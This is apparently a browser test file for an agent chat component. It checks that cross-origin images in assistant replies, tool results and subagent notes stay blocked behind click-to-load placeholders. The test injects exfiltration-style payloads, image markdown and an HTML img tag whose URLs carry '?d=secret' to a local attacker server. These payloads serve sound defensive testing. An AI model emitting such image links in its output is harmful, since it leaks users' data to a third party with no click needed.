/**
 * No zero-click exfiltration through images (the built bundle in Chromium): a reply, a tool's
 * result and a subagent's note carry images from an attacker on another loopback origin, which
 * counts every request it receives. By default none reaches it until the person presses a
 * placeholder; `images="allow"` shows the counter does count.
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, describe, it } from 'node:test';
import { chatTurn, launchChromium, openPage } from './browser.mjs';
import { chatPage, distBuilt, sleep, startPageServer, waitFor } from './mcp-fixtures.mjs';

describe('images from another origin', () => {
  let attacker;
  let requests = [];
  let pages;
  let browser;
  before(async () => {
    assert.ok(distBuilt(), 'run `npm run build` first');
    attacker = http.createServer((req, res) => {
      requests.push(req.url);
      res.writeHead(200, { 'content-type': 'image/gif' }).end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
    });
    await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${attacker.address().port}`;
    pages = await startPageServer(async (input, res, encoder) => {
      const send = (event) => res.write(encoder.encodeSSE(event));
      send({ type: 'RUN_STARTED', threadId: input.threadId, runId: input.runId });
      send({ type: 'TEXT_MESSAGE_START', messageId: 'm', role: 'assistant' });
      send({
        type: 'TEXT_MESSAGE_CONTENT',
        messageId: 'm',
        delta: `Here: ![a](${origin}/inline.gif?d=secret) ![b][1] <img src="//127.0.0.1:${attacker.address().port}/raw.gif">\n\n[1]: ${origin}/ref.gif\n`,
      });
      send({ type: 'TEXT_MESSAGE_END', messageId: 'm' });
      send({ type: 'TOOL_CALL_START', toolCallId: 'c', toolCallName: 'report' });
      send({ type: 'TOOL_CALL_END', toolCallId: 'c' });
      send({ type: 'TOOL_CALL_RESULT', messageId: 'r', toolCallId: 'c', content: `## Report\n\n- one\n\n![chart](${origin}/result.gif)` });
      send({ type: 'SUBAGENT_STARTED', subagentRunId: 's', name: 'researcher' });
      send({ type: 'TEXT_MESSAGE_START', messageId: 'n', role: 'assistant', subagentRunId: 's' });
      send({ type: 'TEXT_MESSAGE_CONTENT', messageId: 'n', delta: `Note ![n](${origin}/note.gif)`, subagentRunId: 's' });
      send({ type: 'TEXT_MESSAGE_END', messageId: 'n', subagentRunId: 's' });
      send({ type: 'SUBAGENT_FINISHED', subagentRunId: 's' });
      send({ type: 'RUN_FINISHED', threadId: input.threadId, runId: input.runId });
      res.end();
    });
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    await pages?.close();
    await new Promise((resolve) => attacker?.close(resolve));
  });

  it('by default none loads until the person presses its placeholder', async () => {
    requests = [];
    pages.setPage(chatPage('', { attributes: 'storage="none" tool-cards="open"' }));
    const { page } = await openPage(browser, pages.url);
    const reply = await chatTurn(page, 'show me');
    assert.equal(reply.status, 'done');
    await sleep(500);
    assert.deepEqual(requests, []);
    const placeholders = page.locator('agent-chat button.image-placeholder');
    assert.equal(await placeholders.count(), 5);
    await placeholders.first().click();
    await waitFor(() => requests.length === 1, { message: 'the pressed image loads' });
    assert.match(requests[0], /^\/inline\.gif\?d=secret$/);
  });

  it('images="allow" loads them at once', async () => {
    requests = [];
    pages.setPage(chatPage('', { attributes: 'storage="none" tool-cards="open" images="allow"' }));
    const { page } = await openPage(browser, pages.url);
    await chatTurn(page, 'show me');
    // Distinct paths: an image drawn again while its block streams may be asked for twice.
    await waitFor(() => new Set(requests.map((url) => url.split('?')[0])).size >= 4, { message: 'the images of the reply and the result' });
    assert.deepEqual([...new Set(requests.map((url) => url.split('?')[0]))].sort(), ['/inline.gif', '/raw.gif', '/ref.gif', '/result.gif']);
    // The subagent's note keeps its image too (it loads lazily, as the block is drawn).
    assert.equal(await page.locator('agent-chat img[src*="note.gif"]').count(), 1);
    assert.equal(await page.locator('agent-chat .image-placeholder').count(), 0);
  });
});
